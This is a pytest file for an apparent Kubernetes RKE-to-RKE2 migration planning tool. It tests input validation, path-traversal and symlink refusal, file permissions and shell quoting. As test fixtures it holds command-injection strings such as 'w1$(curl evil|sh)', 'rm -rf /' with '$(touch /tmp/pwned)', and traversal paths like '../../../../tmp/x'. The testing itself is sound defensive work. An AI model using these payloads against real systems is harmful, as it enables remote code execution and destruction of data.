"""assess plan against hostile cluster.yml: node names, paths outside --out, shell quoting, file modes."""

from __future__ import annotations

import shlex
import stat
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from assessor.cli import app
from assessor.migration.rke2config import NodePlan, Rke2Plan
from assessor.migration.runbook import RunbookInputs, runbook
from assessor.migration.shell import sh
from assessor.migration.strategy import strategy_from
from assessor.migration.writer import PlanPathError, write_plan
from assessor.model.origin import Origin
from assessor.model.rke import RkeConfig, is_node_name
from tests.conftest import FIXTURES

runner = CliRunner()


def _cluster_yml(tmp_path: Path, *workers: dict[str, object]) -> Path:
    nodes = [{"address": "10.0.0.1", "role": ["controlplane", "etcd"]}, *workers]
    path = tmp_path / "cluster.yml"
    path.write_text(yaml.safe_dump({"cluster_name": "c", "kubernetes_version": "v1.26.8-rancher1-1", "nodes": nodes}))
    return path


@pytest.mark.parametrize(
    ("worker", "message"),
    [
        ({"address": "10.0.0.2", "hostname_override": "../../../../tmp/x"}, "not a valid Kubernetes node name"),
        ({"address": "10.0.0.2", "hostname_override": "w1$(curl evil|sh)"}, "not a valid Kubernetes node name"),
        ({"address": "10.0.0.2", "hostname_override": "a\x00b"}, "'a\\x00b' is not a valid"),
        ({"address": "10.0.0.2", "hostname_override": "/etc"}, "not a valid Kubernetes node name"),
        ({"address": "10.0.0.2", "hostname_override": "x" * 300}, "at most 253 characters"),
        ({"address": "fd00::2"}, "nodes[1].address 'fd00::2' is not a valid"),
        ({"address": "10.0.0.2", "hostname_override": "10.0.0.1"}, "names node 10.0.0.1 again (nodes[0]"),
        ({"address": "10.0.0.1"}, "names node 10.0.0.1 again"),
        ({"role": ["worker"]}, "nodes[1] has no address"),
    ],
)
def test_bad_node_names_reject_the_file_with_one_line_and_write_nothing(
    tmp_path: Path, worker: dict[str, object], message: str
) -> None:
    out = tmp_path / "out"
    result = runner.invoke(app, ["plan", str(_cluster_yml(tmp_path, worker)), "--out", str(out), "--force"])
    assert result.exit_code == 2, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"error: {tmp_path / 'cluster.yml'}: line "), lines
    assert message in lines[0]
    assert not out.exists() and not (tmp_path / "tmp").exists()


def test_assess_rke_rejects_the_same_file(tmp_path: Path) -> None:
    src = _cluster_yml(tmp_path, {"address": "10.0.0.2", "hostname_override": "w1;reboot"})
    result = runner.invoke(app, ["rke", str(src)])
    assert result.exit_code == 2 and "'w1;reboot' is not a valid Kubernetes node name" in result.stderr


@pytest.mark.parametrize(
    ("name", "ok"),
    [("w1", True), ("node-1.example.com", True), ("10.0.0.1", True), ("W1", False), ("-a", False), ("a_b", False)],
)
def test_node_name_rule(name: str, ok: bool) -> None:
    assert is_node_name(name) is ok


@pytest.mark.parametrize("rel", ["../x", "nodes/../../x", "/etc/passwd", "nodes//x", "a\x00b", "./x"])
def test_writer_refuses_paths_that_are_not_plain_and_writes_nothing(tmp_path: Path, rel: str) -> None:
    out = tmp_path / "out"
    with pytest.raises(PlanPathError):
        write_plan(out, {"runbook.md": "ok\n", rel: "evil\n"}, force=True)
    assert not out.exists()


def test_writer_refuses_a_symlink_inside_out_that_points_outside(tmp_path: Path) -> None:
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    (out / "nodes").symlink_to(elsewhere)
    with pytest.raises(PlanPathError, match="outside"):
        write_plan(out, {"nodes/w1/config.yaml": "x: 1\n"}, force=True)
    (out / "runbook.md").symlink_to(elsewhere / "target")
    with pytest.raises(PlanPathError):
        write_plan(out, {"runbook.md": "x\n"}, force=True)
    assert list(elsewhere.iterdir()) == []


def test_writer_follows_a_symlink_that_stays_inside(tmp_path: Path) -> None:
    out = tmp_path / "out"
    (out / "real").mkdir(parents=True)
    (out / "nodes").symlink_to(out / "real")
    write_plan(out, {"nodes/w1/config.yaml": "x: 1\n"})
    assert (out / "real" / "w1" / "config.yaml").read_text() == "x: 1\n"


def test_cli_turns_a_path_outside_out_into_one_line(tmp_path: Path) -> None:
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    (out / "nodes").symlink_to(elsewhere)
    result = runner.invoke(app, ["plan", str(FIXTURES / "rke" / "seed-cluster.yml"), "--out", str(out), "-q"])
    assert result.exit_code == 2
    assert result.stderr.startswith("error: ") and "outside" in result.stderr
    assert list(elsewhere.iterdir()) == []


def test_config_files_are_private_and_the_runbook_says_so(tmp_path: Path) -> None:
    doc = yaml.safe_load((FIXTURES / "rke" / "seed-cluster.yml").read_text())
    doc["services"]["kube-api"]["extra_args"] = {"oidc-client-secret": "S3CR3T-CANARY"}
    doc["services"]["kubelet"]["extra_env"] = ["HTTP_PROXY=http://u:S3CR3T-CANARY@proxy:3128"]
    src = tmp_path / "cluster.yml"
    src.write_text(yaml.safe_dump(doc))
    out = tmp_path / "out"
    result = runner.invoke(app, ["plan", str(src), "--out", str(out), "-q", "-o", "json", "--fail-on", "none"])
    assert result.exit_code == 0, result.stderr
    holders = [p for p in out.rglob("*") if p.is_file() and "S3CR3T-CANARY" in p.read_text()]
    assert holders, "the secret-looking value must reach the server config"
    for path in holders:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    for path in out.rglob("nodes/*/config.yaml"):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert "S3CR3T-CANARY" not in result.stdout
    assert "written with mode 600" in (out / "runbook.md").read_text()


def test_an_older_loose_mode_is_tightened_on_an_unchanged_rerun(tmp_path: Path) -> None:
    out = tmp_path / "out"
    write_plan(out, {"nodes/w1/config.yaml": "x: 1\n"})
    (out / "nodes/w1/config.yaml").chmod(0o644)
    report = write_plan(out, {"nodes/w1/config.yaml": "x: 1\n"})
    assert report.unchanged == ["nodes/w1/config.yaml"]
    assert stat.S_IMODE((out / "nodes/w1/config.yaml").stat().st_mode) == 0o600


# No backtick: that would end the markdown code span (markdown escaping is the renderer's job).
HOSTILE = "w1$(touch /tmp/pwned);rm -rf / 'q' \"d\" | sh"
WHOLE = (HOSTILE, f"node/{HOSTILE}", f"nodes/{HOSTILE}/config.yaml")


def _commands(markdown: str) -> list[str]:
    return [part for line in markdown.splitlines() for part in line.split("`")[1::2] if "pwned" in part]


def test_every_command_quotes_every_interpolated_value() -> None:
    """Names cannot get this far (validated at load); the quoting must hold on its own anyway."""
    cfg = RkeConfig("c.yml", {"nodes": []}, Origin("c.yml", 1, None, None))
    nodes = [NodePlan("s1", "10.0.0.1", "server", ("etcd",)), NodePlan(HOSTILE, "10.0.0.2", "agent", ("worker",))]
    inputs = RunbookInputs(
        cluster="c",
        rke2=Rke2Plan(nodes, [], None),
        rke2_version="v1$(id)",
        rke2_reason="test",
        recommended="in-place",
        reasons=[],
        strategy=strategy_from(cfg, "in-place", 0),
        blockers=[],
        secret_files=[],
        forecast=[],
        files=set(),
    )
    text = runbook(inputs)
    commands = _commands(text)
    assert len(commands) == 2  # cordon/drain, wait/uncordon
    for command in commands:
        hostile = [w for w in shlex.split(command) if "pwned" in w]
        assert hostile and all(w in WHOLE for w in hostile), command
    assert "INSTALL_RKE2_VERSION='v1$(id)'" in text


@pytest.mark.parametrize("value", ["plain", "a b", "$(x)", "'", "", "x;y", "10.0.0.1"])
def test_sh_round_trips(value: str) -> None:
    assert shlex.split(f"cmd {sh(value)}") == ["cmd", value]
